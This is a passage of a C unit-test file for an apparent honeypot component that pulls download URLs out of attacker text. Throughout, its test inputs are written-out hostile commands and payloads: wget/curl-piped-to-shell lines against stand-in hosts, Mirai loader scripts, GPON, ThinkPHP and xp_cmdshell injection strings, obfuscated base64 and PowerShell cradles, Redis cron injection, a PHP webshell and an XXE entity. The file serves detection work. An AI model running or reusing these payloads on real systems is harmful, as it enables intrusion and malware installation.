/*
 * test_urlx.c - the URL / download-intent extractor (src/capture/urlx*.c).
 *
 * One test per kind of attacker text the extractor must understand (shell
 * download tools, Mirai payloads, ${IFS}, URL-encoded, base64 and hex
 * layers, JSON/XML, SQL, Redis/cron, one-liners, bins.sh scripts), each
 * asserting the normalised URL, the "how" and the "layer"; then what must not
 * be reported, dedup/precedence/order, the normaliser on its own, and bounds
 * (1 MiB hostile inputs, the HP_URLX_MAX cap).  Hosts are "1.2.3.4" and
 * "evil.example": a bare "h" is not a host (no dot) and is rejected.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>

#include "capture/urlx.h"

struct hit {
    char url[HP_URLX_URL_MAX + 1];
    char how[32];
    char layer[16];
};

struct res {
    size_t n;
    struct hit h[HP_URLX_MAX + 1];
};

static struct res R;

static void collect(void *arg, const char *url, const char *how, const char *layer)
{
    struct res *r = arg;
    assert_true(r->n < HP_URLX_MAX);
    assert_true(strlen(url) <= HP_URLX_URL_MAX);
    snprintf(r->h[r->n].url, sizeof(r->h[r->n].url), "%s", url);
    snprintf(r->h[r->n].how, sizeof(r->h[r->n].how), "%s", how);
    snprintf(r->h[r->n].layer, sizeof(r->h[r->n].layer), "%s", layer);
    r->n++;
}

static size_t scan_n(const void *s, size_t n)
{
    memset(&R, 0, sizeof(R));
    size_t got = hp_urlx_scan(s, n, collect, &R);
    assert_int_equal(got, R.n);
    return got;
}

static size_t scan(const char *s)
{
    return scan_n(s, strlen(s));
}

static void dump(const char *text)
{
    fprintf(stderr, "input: %s\n", text);
    for (size_t i = 0; i < R.n; i++)
        fprintf(stderr, "  [%zu] %s how=%s layer=%s\n", i, R.h[i].url, R.h[i].how, R.h[i].layer);
}

/* Scan text and require url among the reports, with that how and layer. */
static void expect(const char *text, const char *url, const char *how, const char *layer)
{
    scan(text);
    for (size_t i = 0; i < R.n; i++)
        if (!strcmp(R.h[i].url, url)) {
            if (strcmp(R.h[i].how, how) || strcmp(R.h[i].layer, layer)) {
                dump(text);
                fprintf(stderr, "want %s how=%s layer=%s\n", url, how, layer);
            }
            assert_string_equal(R.h[i].how, how);
            assert_string_equal(R.h[i].layer, layer);
            return;
        }
    dump(text);
    fprintf(stderr, "missing %s\n", url);
    fail();
}

/* Exactly one report: url/how/layer. */
static void expect1(const char *text, const char *url, const char *how, const char *layer)
{
    expect(text, url, how, layer);
    if (R.n != 1)
        dump(text);
    assert_int_equal(R.n, 1);
}

static void expect_none(const char *text)
{
    scan(text);
    if (R.n)
        dump(text);
    assert_int_equal(R.n, 0);
}

/* ---- shell download tools ----------------------------------------------------- */

/* A command whose words fill the word arena (4 KiB) to the last byte, then more words: the
 * soak found the terminator of the next word written one past the arena (UBSan). */
static void test_arena_full(void **state)
{
    (void)state;
    for (size_t fill = 4090; fill <= 4100; fill++) {
        char *line = malloc(fill + 64);
        memcpy(line, "echo ", 5);
        memset(line + 5, 'A', fill);
        strcpy(line + 5 + fill, " b c d; wget http://1.2.3.4/z");
        scan(line);
        free(line);
    }
    expect1("wget http://1.2.3.4/bins.sh", "http://1.2.3.4/bins.sh", "wget", "plain");
}

static void test_wget(void **state)
{
    (void)state;
    expect1("wget http://1.2.3.4/bins.sh", "http://1.2.3.4/bins.sh", "wget", "plain");
    expect1("cd /tmp || cd /var/run || cd /mnt; wget -q -O- 1.2.3.4/x.sh | sh",
            "http://1.2.3.4/x.sh", "wget", "plain");
    expect1("busybox wget http://evil.example/x -O /tmp/x", "http://evil.example/x", "wget", "plain");
    expect1("/bin/busybox wget http://evil.example/y; chmod 777 y; ./y",
            "http://evil.example/y", "wget", "plain");
    expect1("wget -O /tmp/a \"http://evil.example:8080/a b\"", "http://evil.example:8080/a%20b",
            "wget", "plain");
    expect1("wget --user-agent Mozilla --tries 3 HTTP://EVIL.Example:80/Up.sh",
            "http://evil.example/Up.sh", "wget", "plain");
}

static void test_curl(void **state)
{
    (void)state;
    expect1("curl -O http://evil.example/x", "http://evil.example/x", "curl", "plain");
    expect1("curl -s -L http://evil.example/x | sh", "http://evil.example/x", "curl", "plain");
    expect1("curl -fsSL evil.example/x.sh|bash", "http://evil.example/x.sh", "curl", "plain");
    expect1("curl -o /tmp/x evil.example/x2 && chmod +x /tmp/x", "http://evil.example/x2", "curl", "plain");
    expect1("curl -A 'Mozilla 5.0' -H 'X: y' --url https://evil.example:443/z",
            "https://evil.example/z", "curl", "plain");
}

static void test_tftp(void **state)
{
    (void)state;
    expect1("tftp -g -r mips 1.2.3.4", "tftp://1.2.3.4/mips", "tftp", "plain");
    expect1("tftp 1.2.3.4 -c get mips", "tftp://1.2.3.4/mips", "tftp", "plain");
    expect1("busybox tftp -r x.sh -g 1.2.3.4", "tftp://1.2.3.4/x.sh", "tftp", "plain");
    expect1("tftp -g -l local -r remote 1.2.3.4 69", "tftp://1.2.3.4/remote", "tftp", "plain");
    expect1("tftp -g -l local -r remote 1.2.3.4 6969", "tftp://1.2.3.4:6969/remote", "tftp", "plain");
    expect1("tftp -i 1.2.3.4 GET x.exe", "tftp://1.2.3.4/x.exe", "tftp", "plain");
    expect_none("tftp -p -l /etc/passwd 1.2.3.4");     /* an upload */
}

static void test_ftpget(void **state)
{
    (void)state;
    expect1("ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 local.sh remote.sh",
            "ftp://anonymous:anonymous@1.2.3.4/remote.sh", "ftpget", "plain");
    expect1("ftpget 1.2.3.4 x.sh", "ftp://1.2.3.4/x.sh", "ftpget", "plain");
    expect1("ftpget -P 2121 1.2.3.4 l /pub/r", "ftp://1.2.3.4:2121/pub/r", "ftpget", "plain");
}

static void test_ftp_script(void **state)
{
    (void)state;
    expect1("echo open 1.2.3.4 > f; echo user a b >> f; echo get x.exe >> f; echo bye >> f; ftp -s:f",
            "ftp://a:b@1.2.3.4/x.exe", "ftp-script", "plain");
    expect1("echo open 1.2.3.4 2121>> s.txt&echo get y.exe>> s.txt&ftp -s:s.txt",
            "ftp://1.2.3.4:2121/y.exe", "ftp-script", "plain");
    expect1("ftp -n <<EOF\nopen 1.2.3.4\nuser u p\nbinary\nget z.sh\nbye\nEOF\nsh z.sh",
            "ftp://u:p@1.2.3.4/z.sh", "ftp-script", "plain");
}

static void test_nc(void **state)
{
    (void)state;
    expect1("nc 1.2.3.4 1234 > /tmp/x", "tcp://1.2.3.4:1234", "nc", "plain");
    expect1("busybox nc evil.example 80 < req > /tmp/y", "tcp://evil.example:80", "nc", "plain");
    expect1("nc -w 5 1.2.3.4 443 >x", "tcp://1.2.3.4:443", "nc", "plain");
    expect_none("nc -lvp 4444");
}

/* Every command word the shell pass acts on, in the case it accepts. */
static void test_every_command_word(void **state)
{
    (void)state;
    expect1("readonly H=evil.example; wget http://$H/r", "http://evil.example/r", "wget", "plain");
    expect1("declare H=evil.example; curl -O http://$H/d", "http://evil.example/d", "curl", "plain");
    expect1("local H=evil.example\nwget http://$H/l", "http://evil.example/l", "wget", "plain");
    expect1("netcat 1.2.3.4 81 > /tmp/n", "tcp://1.2.3.4:81", "nc", "plain");
    expect1("ncat 1.2.3.4 82 > /tmp/n", "tcp://1.2.3.4:82", "nc", "plain");
    expect1("ftp -n <<EOF\nOPEN 1.2.3.4\nUSER u p\nMGET a.sh\nbye\nEOF", "ftp://u:p@1.2.3.4/a.sh", "ftp-script",
            "plain");
    expect1("ftp -n <<EOF\nOpen 1.2.3.4\nrecv b.sh\nbye\nEOF", "ftp://1.2.3.4/b.sh", "ftp-script", "plain");
    /* Case counts for shell commands: WGET is not wget. */
    expect_none("WGET 1.2.3.4/x");
}

static void test_mirai_wget_g(void **state)
{
    (void)state;
    const char *body =
        "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade>"
        "<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/.oxy -r /mips)</NewStatusURL>"
        "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
    expect1(body, "tftp://1.2.3.4/mips", "busybox-wget-g", "plain");
    expect1("wget -g 1.2.3.4 -l /tmp/x -r /b", "tftp://1.2.3.4/b", "busybox-wget-g", "plain");
}

static void test_ifs(void **state)
{
    (void)state;
    expect1("cd${IFS}/tmp;wget${IFS}http://1.2.3.4/x.sh;sh${IFS}x.sh", "http://1.2.3.4/x.sh", "wget", "ifs");
    expect1("wget$IFS'http://evil.example/x'", "http://evil.example/x", "wget", "ifs");
    expect1("cd${IFS%??}/tmp;curl${IFS%??}-O${IFS%??}1.2.3.4/c", "http://1.2.3.4/c", "curl", "ifs");
    expect1("wget${IFS}http://1.2.3.4/i${IFS}-O${IFS}/tmp/i", "http://1.2.3.4/i", "wget", "ifs");
}

static void test_urlencoded(void **state)
{
    (void)state;
    expect1("GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
            "User-Agent: Hello, world\r\n\r\n",
            "http://1.2.3.4/jaws", "wget", "urldecode");
    expect1("POST /cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http%3A%2F%2F1.2.3.4%2Fmozi.m HTTP/1.1\r\n\r\n",
            "http://1.2.3.4/mozi.m", "wget", "urldecode");
    expect1("GET /x?cmd=%24%28wget%20http%3A%2F%2Fevil.example%2Fm%29 HTTP/1.1\r\n\r\n",
            "http://evil.example/m", "wget", "urldecode");
    /* GPON: '+' around a literal URL is an encoded blank, not part of it. */
    expect1("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&diag_action=ping&"
            "dest_host=``;wget+http://1.2.3.4:8080/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0",
            "http://1.2.3.4:8080/Mozi.m", "wget", "urldecode");
    /* ThinkPHP: a form field whose value is the command. */
    expect1("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&"
            "vars[0]=shell_exec&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t;sh%20/tmp/t HTTP/1.1",
            "http://1.2.3.4/t.sh", "wget", "urldecode");
    expect1("POST /x HTTP/1.1\r\n\r\ncmd=wget http://evil.example/f&x=1", "http://evil.example/f", "wget", "plain");
}

/* A long run of one escape introducer before the encoded command (64 KiB of
 * '%' with no '+', of '\\' with no \x, of '&'): the decoders remember where
 * the other byte was last found instead of searching on to the end again at
 * every byte of the run, and still find the escape after it. */
static void test_escape_runs(void **state)
{
    (void)state;
    static const struct { char run; const char *tail, *url, *layer; } t[] = {
        { '%', "wget%20http%3A%2F%2Fevil.example%2Fp", "http://evil.example/p", "urldecode" },
        { '\\', "echo -e '\\x77\\x67\\x65\\x74 http://evil.example/h'", "http://evil.example/h", "hex" },
        { '&', "wget http:&#47;&#47;evil.example&#47;e", "http://evil.example/e", NULL },
    };
    size_t n = 65536;
    char *buf = malloc(n + 128);
    assert_non_null(buf);
    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        memset(buf, t[i].run, n);
        buf[n] = ' ';
        size_t tl = strlen(t[i].tail);
        memcpy(buf + n + 1, t[i].tail, tl);
        scan_n(buf, n + 1 + tl);
        bool found = false;
        for (size_t k = 0; k < R.n; k++)
            found |= strcmp(R.h[k].url, t[i].url) == 0 && (!t[i].layer || strcmp(R.h[k].layer, t[i].layer) == 0);
        if (!found)
            dump(t[i].tail);
        assert_true(found);
    }
    free(buf);
}

/* ---- decoded layers ---------------------------------------------------------------- */

static void test_base64(void **state)
{
    (void)state;
    expect1("echo d2dldCBodHRwOi8vMS4yLjMuNC94 | base64 -d | sh", "http://1.2.3.4/x", "wget", "base64");
    expect1("echo d2dldCBodHRwOi8vMS4yLjMuNC9kZWM= | base64 --decode | bash",
            "http://1.2.3.4/dec", "wget", "base64");
    expect1("bash -c \"{echo,Y2QgL3RtcDsgd2dldCBodHRwOi8vMS4yLjMuNC9iNjQuc2g7IHNoIGI2NC5zaA==}|{base64,-d}|{bash,-i}\"",
            "http://1.2.3.4/b64.sh", "wget", "base64");
    /* A standalone run, e.g. a JSON field. */
    expect1("{\"id\":7,\"payload\":\"Y3VybCAtZnNTTCBodHRwOi8vZXZpbC5leGFtcGxlL3Muc2h8c2g=\"}",
            "http://evil.example/s.sh", "curl", "base64");
    /* PowerShell -EncodedCommand: base64 of UTF-16LE. */
    expect1("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBlAC4AcABzADEAJwApAA==",
            "http://evil.example/e.ps1", "powershell", "base64");
    /* Paths and binary-looking runs are not decoded into reports. */
    expect_none("cd /usr/local/bin/busybox/abcdefghijklmnop; ls /AAAAAAAAAAAAAAAAAAAAAAAAAAAA");
}

static void test_hex(void **state)
{
    (void)state;
    expect1("echo -e '\\x77\\x67\\x65\\x74 http://evil.example/x' | sh", "http://evil.example/x", "wget", "hex");
    expect1("printf '\\167\\147\\145\\164\\040\\150\\164\\164\\160\\072\\057\\057\\061\\056\\062\\056\\063\\056\\064\\057\\157' | sh",
            "http://1.2.3.4/o", "wget", "hex");
    expect1("$'\\x68ttp://evil.example/x'", "http://evil.example/x", "url", "hex");
}

static void test_json_xml(void **state)
{
    (void)state;
    expect1("{\"cmd\":\"wget http:\\/\\/1.2.3.4\\/x\"}", "http://1.2.3.4/x", "wget", "plain");
    expect1("<cmd>cd /tmp &amp;&amp; wget http:&#47;&#47;1.2.3.4&#x2f;s.sh &amp;&amp; sh s.sh</cmd>",
            "http://1.2.3.4/s.sh", "wget", "plain");
    expect1("<a>&lt;x&gt;curl -s http://evil.example/q?a=1&amp;b=2&lt;/x&gt;</a>",
            "http://evil.example/q?a=1", "curl", "plain");
}

static void test_sql(void **state)
{
    (void)state;
    expect1("EXEC xp_cmdshell 'powershell (New-Object Net.WebClient).DownloadFile(''http://evil.example/x.exe'',''c:\\x.exe'')'",
            "http://evil.example/x.exe", "powershell", "plain");
    expect1("exec master..xp_cmdshell 'certutil -urlcache -split -f http://evil.example/c.exe c.exe'",
            "http://evil.example/c.exe", "certutil", "plain");
    expect1("bitsadmin /transfer j http://evil.example/b c:\\b", "http://evil.example/b", "bitsadmin", "plain");
    expect1("powershell -c \"IWR -Uri http://evil.example/i.ps1 -OutFile i.ps1\"",
            "http://evil.example/i.ps1", "powershell", "plain");
    expect1("powershell IEX (New-Object Net.WebClient).DownloadString('https://evil.example/d')",
            "https://evil.example/d", "powershell", "plain");
    expect_none("SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/x.php'");
}

static void test_redis_cron(void **state)
{
    (void)state;
    expect1("*/1 * * * * curl -fsSL http://evil.example/x.sh | sh", "http://evil.example/x.sh", "curl", "plain");
    expect1("*/5 * * * * root wget -q -O- http://evil.example/x|sh", "http://evil.example/x", "wget", "plain");
    const char resp[] = "*3\r\n$3\r\nset\r\n$1\r\nx\r\n$60\r\n\n\n*/1 * * * * curl -fsSL http://evil.example/r.sh | sh\n\n\r\n"
                        "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n";
    expect1(resp, "http://evil.example/r.sh", "curl", "plain");
    expect1("@reboot wget -q -O- http://evil.example/boot | sh", "http://evil.example/boot", "wget", "plain");
}

static void test_oneliners(void **state)
{
    (void)state;
    expect1("perl -e 'use LWP::Simple; getstore(\"http://evil.example/p\",\"x\")'",
            "http://evil.example/p", "perl", "plain");
    expect1("python -c \"import urllib;urllib.urlretrieve('http://evil.example/py','x')\"",
            "http://evil.example/py", "python", "plain");
    expect1("php -r 'file_put_contents(\"x\", file_get_contents(\"http://evil.example/ph\"));'",
            "http://evil.example/ph", "php", "plain");
}

/* ---- scripts ---------------------------------------------------------------------------- */

static void test_bins_sh(void **state)
{
    (void)state;
    static const char *const arch[] = { "arm", "arm5", "arm6", "arm7", "m68k", "mips", "mpsl",
                                        "ppc", "sh4", "x86" };
    char script[4096];
    size_t o = (size_t)snprintf(script, sizeof(script), "#!/bin/bash\n");
    for (int i = 0; i < 10; i++)
        o += (size_t)snprintf(script + o, sizeof(script) - o,
                              "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
                              "wget http://1.2.3.4/bins/mirai.%s; chmod +x mirai.%s; ./mirai.%s; rm -rf mirai.%s\n",
                              arch[i], arch[i], arch[i], arch[i]);
    assert_int_equal(scan(script), 10);
    for (int i = 0; i < 10; i++) {
        char want[128];
        snprintf(want, sizeof(want), "http://1.2.3.4/bins/mirai.%s", arch[i]);
        assert_string_equal(R.h[i].url, want);   /* order of appearance */
        assert_string_equal(R.h[i].how, "wget");
        assert_string_equal(R.h[i].layer, "plain");
    }
}

static void test_variables(void **state)
{
    (void)state;
    expect1("SERVER=1.2.3.4; wget http://$SERVER/x", "http://1.2.3.4/x", "wget", "plain");
    expect1("export H=evil.example P=8080\ncurl -O http://${H}:$P/v", "http://evil.example:8080/v", "curl", "plain");
    /* The assignment's literal URL is a URL in the text too. */
    assert_int_equal(scan("u=\"http://1.2.3.4\"; for a in arm mips x86; do wget $u/$a; done"), 4);
    assert_string_equal(R.h[0].url, "http://1.2.3.4/");
    assert_string_equal(R.h[0].how, "url");
    assert_string_equal(R.h[1].url, "http://1.2.3.4/arm");
    assert_string_equal(R.h[2].url, "http://1.2.3.4/mips");
    assert_string_equal(R.h[3].url, "http://1.2.3.4/x86");
    assert_string_equal(R.h[3].how, "wget");
    expect1("A=wget; $A http://evil.example/va", "http://evil.example/va", "wget", "plain");
    /* Unknown variables are not guessed; a literal template is not a URL. */
    expect_none("wget http://$NOPE/x");
    assert_int_equal(scan("for a in arm mips; do wget http://1.2.3.4/$a -O /tmp/$a; done"), 2);
    assert_string_equal(R.h[0].url, "http://1.2.3.4/arm");
    assert_string_equal(R.h[1].url, "http://1.2.3.4/mips");
}

static void test_nested_quotes(void **state)
{
    (void)state;
    expect1("sh -c 'cd /tmp; wget http://1.2.3.4/q.sh; sh q.sh'", "http://1.2.3.4/q.sh", "wget", "plain");
    expect1("bash -c \"curl -s evil.example/cc | sh\"", "http://evil.example/cc", "curl", "plain");
    expect1("x=`wget -qO- http://1.2.3.4/bt`", "http://1.2.3.4/bt", "wget", "plain");
}

/* The shell pass skips a layer that names none of its commands: a command
 * name spelled across quotes, with a variable or with escapes, an "nc" of its
 * own and an ftp script's OPEN in capitals must still be seen; a browser's
 * head has nothing to find. */
static void test_shell_skip_edges(void **state)
{
    (void)state;
    expect1("w'g'et http://192.0.2.7/q1", "http://192.0.2.7/q1", "wget", "plain");
    expect1("c\"ur\"l -O 192.0.2.7/q2", "http://192.0.2.7/q2", "curl", "plain");
    expect1("a=wg; b=et; $a$b http://192.0.2.7/q3", "http://192.0.2.7/q3", "wget", "plain");
    expect1("w\\get http://192.0.2.7/q4", "http://192.0.2.7/q4", "wget", "plain");
    expect1("id;/bin/nc 192.0.2.7 4444 >/tmp/q5", "tcp://192.0.2.7:4444", "nc", "plain");
    expect1("\"n\"c 192.0.2.7 4445 >/tmp/q6", "tcp://192.0.2.7:4445", "nc", "plain");
    expect1("cmd=ncat 192.0.2.7 4446 >/tmp/q7", "tcp://192.0.2.7:4446", "nc", "plain");
    expect1("echo OPEN 192.0.2.7> s&echo GET q8.exe>> s&ftp -s:s", "ftp://192.0.2.7/q8.exe", "ftp-script", "plain");
    expect1("x;busybox tftp -g -r q9 192.0.2.7", "tftp://192.0.2.7/q9", "tftp", "plain");
    expect_none("GET /?t=1&n=2 HTTP/1.1\r\nHost: 192.0.2.8\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; "
                "Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n"
                "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
                "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n");
}

/* Every command the shell pass turns into a URL, written plain and with a
 * quote inside its name, after a text that would otherwise be skipped: the
 * skip test has a plain and a quoted way of looking for names, and either
 * one forgetting a name loses that command's URLs. */
static void test_shell_skip_every_name(void **state)
{
    (void)state;
    static const struct { const char *plain, *quoted, *url, *how; } c[] = {
        { "wget http://192.0.2.9/a", "wg''et http://192.0.2.9/a", "http://192.0.2.9/a", "wget" },
        { "curl -O 192.0.2.9/b", "cu\"\"rl -O 192.0.2.9/b", "http://192.0.2.9/b", "curl" },
        { "tftp -g -r c 192.0.2.9", "tf''tp -g -r c 192.0.2.9", "tftp://192.0.2.9/c", "tftp" },
        { "ftpget 192.0.2.9 d d", "ftpg''et 192.0.2.9 d d", "ftp://192.0.2.9/d", "ftpget" },
        { "nc 192.0.2.9 81 >e", "n''c 192.0.2.9 81 >e", "tcp://192.0.2.9:81", "nc" },
        { "ncat 192.0.2.9 82 >f", "nc''at 192.0.2.9 82 >f", "tcp://192.0.2.9:82", "nc" },
        { "netcat 192.0.2.9 83 >g", "netc''at 192.0.2.9 83 >g", "tcp://192.0.2.9:83", "nc" },
        { "echo Open 192.0.2.9>s&echo get h>>s&ftp -s:s", "echo Op''en 192.0.2.9>s&echo get h>>s&ftp -s:s",
          "ftp://192.0.2.9/h", "ftp-script" },
    };
    for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
        char text[256];
        snprintf(text, sizeof(text), "Accept: text/html\r\n%s", c[i].plain);
        expect1(text, c[i].url, c[i].how, "plain");
        snprintf(text, sizeof(text), "Accept: text/html\r\n%s", c[i].quoted);
        expect1(text, c[i].url, c[i].how, "plain");
    }
}

/* ---- what is not reported, dedup, order ------------------------------------------- */

static void test_reject(void **state)
{
    (void)state;
    expect_none("wget example; curl localhostx/x; wget http://; curl http:///x");
    expect_none("see file:///etc/passwd and javascript:alert(1) and gopher://evil.example/");
    expect_none("wget http://example/x");               /* no dot */
    expect_none("wget http://1.2.3/x http://1.2.3.256/x http://evil.example:99999/x");
    expect_none("wget http://ev_il.example/x http://evil..example/x");
    expect1("wget http://localhost/x", "http://localhost/x", "wget", "plain");
    expect1("wget http://[::1]:8080/x", "http://[::1]:8080/x", "wget", "plain");
    expect_none("tcp://1.2.3.4:80 is only for nc");
}

static void test_literal_edges(void **state)
{
    (void)state;
    expect1("see (http://evil.example/a_(b)) now.", "http://evil.example/a_(b)", "url", "plain");
    expect1("Visit http://evil.example/z.", "http://evil.example/z", "url", "plain");
    expect1("x=$(curl http://evil.example/s)", "http://evil.example/s", "curl", "plain");
    expect1("\"http://evil.example/q\",", "http://evil.example/q", "url", "plain");
    assert_int_equal(scan("GET /r?u=http://1.2.3.4/inner HTTP/1.1\r\nReferer: http://evil.example/r?next=https://1.2.3.4/n\r\n"), 3);
    assert_string_equal(R.h[0].url, "http://1.2.3.4/inner");
    assert_string_equal(R.h[1].url, "http://evil.example/r?next=https://1.2.3.4/n");
    assert_string_equal(R.h[2].url, "https://1.2.3.4/n");
}

/* A URL naming an XML vocabulary (namespace, SOAP encoding, schema, XML-DSig
 * algorithm) is not pointed at; the payload URL beside it is. */
static void test_xml_vocabulary(void **state)
{
    (void)state;
    expect1("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
            "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade "
            "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget "
            "-g 1.2.3.4 -l /tmp/mips -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>",
            "tftp://1.2.3.4/mips", "busybox-wget-g", "plain");
    expect_none("<x xmlns=\"http://www.w3.org/1999/xhtml\" XMLNS:xsi = 'http://www.w3.org/2001/XMLSchema-instance' "
                "xsi:schemaLocation=\"http://example.net/ns http://example.net/ns.xsd\">"
                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>"
                "<xsl:stylesheet noNamespaceSchemaLocation=\"http://www.w3.org/x.xsd\"/></x>");
    expect_none("{\"xml\":\"<a xmlns=\\\"http://www.w3.org/1999/xhtml\\\"/>\"}");     /* JSON-escaped quotes */
    expect_none("<wsse:Password Type=\"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0"
                "#PasswordDigest\">x</wsse:Password>");
    /* Other attributes and element text still count: an XXE's DTD, a href, an RFI value. */
    expect1("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/dtd.xml\"> %x;]>",
            "http://evil.example/dtd.xml", "url", "plain");
    expect1("<a href=\"http://evil.example/h\" xmlns=\"http://www.w3.org/1999/xhtml\">",
            "http://evil.example/h", "url", "plain");
    expect1("<NewInternalClient xmlns:x=\"urn:x\">http://evil.example/t</NewInternalClient>",
            "http://evil.example/t", "url", "plain");
    expect1("page=xmlns&u=http://evil.example/r", "http://evil.example/r", "url", "plain");
    /* WS-Addressing / WS-Management headers name the endpoint and the operation (OMIGOD's /wsman
     * request); the command in the body still counts. */
    expect1("<s:Header><a:To>HTTP://198.51.100.80:5986/wsman/</a:To><w:ResourceURI s:mustUnderstand=\"true\">"
            "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem</w:ResourceURI><a:ReplyTo>"
            "<a:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</a:Address></a:ReplyTo>"
            "<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteShellCommand"
            "</a:Action></s:Header><s:Body><p:command>wget http://evil.example/o.sh</p:command></s:Body>",
            "http://evil.example/o.sh", "wget", "plain");
    expect1("<ToDo>http://evil.example/d</ToDo>", "http://evil.example/d", "url", "plain");
}

/* An encoded shell or quote character after a literal URL ends it, as an
 * encoded blank does; an encoded '&' stays inside (the URL's own query). */
static void test_encoded_terminators(void **state)
{
    (void)state;
    static const char *const tails[] = { "%3bsh", "%3Bsh", "%7Csh", "%60", "%00.zip", "%5cu0022", "%22x", "%27x",
                                         "%3Cx", "%3ex" };
    for (size_t i = 0; i < sizeof(tails) / sizeof(tails[0]); i++) {
        char text[128];
        snprintf(text, sizeof(text), "GET /cgi?x=http://1.2.3.4/iv%s HTTP/1.1", tails[i]);
        expect1(text, "http://1.2.3.4/iv", "url", "plain");
    }
    /* Template braces: HFS's "{.exec|URL.}" macros. */
    expect1("search=%00{.exec|certutil -f -urlcache http://1.2.3.4/s.exe.}{.?n", "http://1.2.3.4/s.exe", "certutil",
            "plain");
    expect("GET /r?u=http://1.2.3.4/x.php?a=1%26b=2 HTTP/1.1", "http://1.2.3.4/x.php?a=1%26b=2", "url", "plain");
}

static void test_precedence_order(void **state)
{
    (void)state;
    /* Literal first, tool later: one report, the tool's how, first position. */
    assert_int_equal(scan("echo http://evil.example/a; echo http://1.2.3.4/b; wget http://evil.example/a"), 2);
    assert_string_equal(R.h[0].url, "http://evil.example/a");
    assert_string_equal(R.h[0].how, "wget");
    assert_string_equal(R.h[1].url, "http://1.2.3.4/b");
    assert_string_equal(R.h[1].how, "url");
    /* Same URL spelled three ways. */
    assert_int_equal(scan("wget 1.2.3.4/x; curl HTTP://1.2.3.4:80/x; echo http://1.2.3.4/x#frag"), 1);
    assert_string_equal(R.h[0].how, "wget");
}

/* ---- the normaliser ------------------------------------------------------------------- */

static void norm_ok(const char *in, const char *defs, const char *want)
{
    char out[HP_URLX_URL_MAX + 1];
    int rc = hp_urlx_normalize(in, strlen(in), defs, out, sizeof(out));
    if (rc != 0 || strcmp(out, want))
        fprintf(stderr, "normalize(%s) = %d '%s', want '%s'\n", in, rc, out, want);
    assert_int_equal(rc, 0);
    assert_string_equal(out, want);
    /* Idempotent. */
    char again[HP_URLX_URL_MAX + 1];
    assert_int_equal(hp_urlx_normalize(out, strlen(out), defs, again, sizeof(again)), 0);
    assert_string_equal(again, out);
}

static void norm_bad(const char *in)
{
    char out[64];
    assert_int_equal(hp_urlx_normalize(in, strlen(in), NULL, out, sizeof(out)), -1);
}

static void test_normalize(void **state)
{
    (void)state;
    norm_ok("1.2.3.4/x", NULL, "http://1.2.3.4/x");
    norm_ok("HTTPS://Evil.Example:443", NULL, "https://evil.example/");
    norm_ok("ftp://u:p@1.2.3.4:21/a b?c=\x01", NULL, "ftp://u:p@1.2.3.4/a%20b?c=%01");
    norm_ok("evil.example:8080?q", NULL, "http://evil.example:8080/?q");
    norm_ok("1.2.3.4/mips", "tftp", "tftp://1.2.3.4/mips");
    norm_ok("tftp://1.2.3.4:69/mips", NULL, "tftp://1.2.3.4/mips");
    norm_ok("tcp://1.2.3.4:80/", NULL, "tcp://1.2.3.4:80");
    norm_bad("tcp://1.2.3.4:80/x");
    norm_ok("http://evil.example/%41\xff", NULL, "http://evil.example/%41%FF");
    norm_ok("http://[2001:DB8::1]/", NULL, "http://[2001:db8::1]/");
    norm_bad("");
    norm_bad("http://");
    norm_bad("http://:80/");
    norm_bad("example");
    norm_bad("file:///etc/passwd");
    norm_bad("http://evil.example:0/");
    norm_bad("http://evil.example:abc/");
    norm_bad("http://a.b\\@evil.example/");
    norm_bad("http://u s@evil.example/");
    /* a NUL in the userinfo would cut the URL short ("http://ft") for every C-string reader
     * (found by fuzz_urlx: strchr() finds the terminator) */
    char out[HP_URLX_URL_MAX + 1];
    static const char nul_user[] = "ft\0\0u:p@1.2.3.4/x";
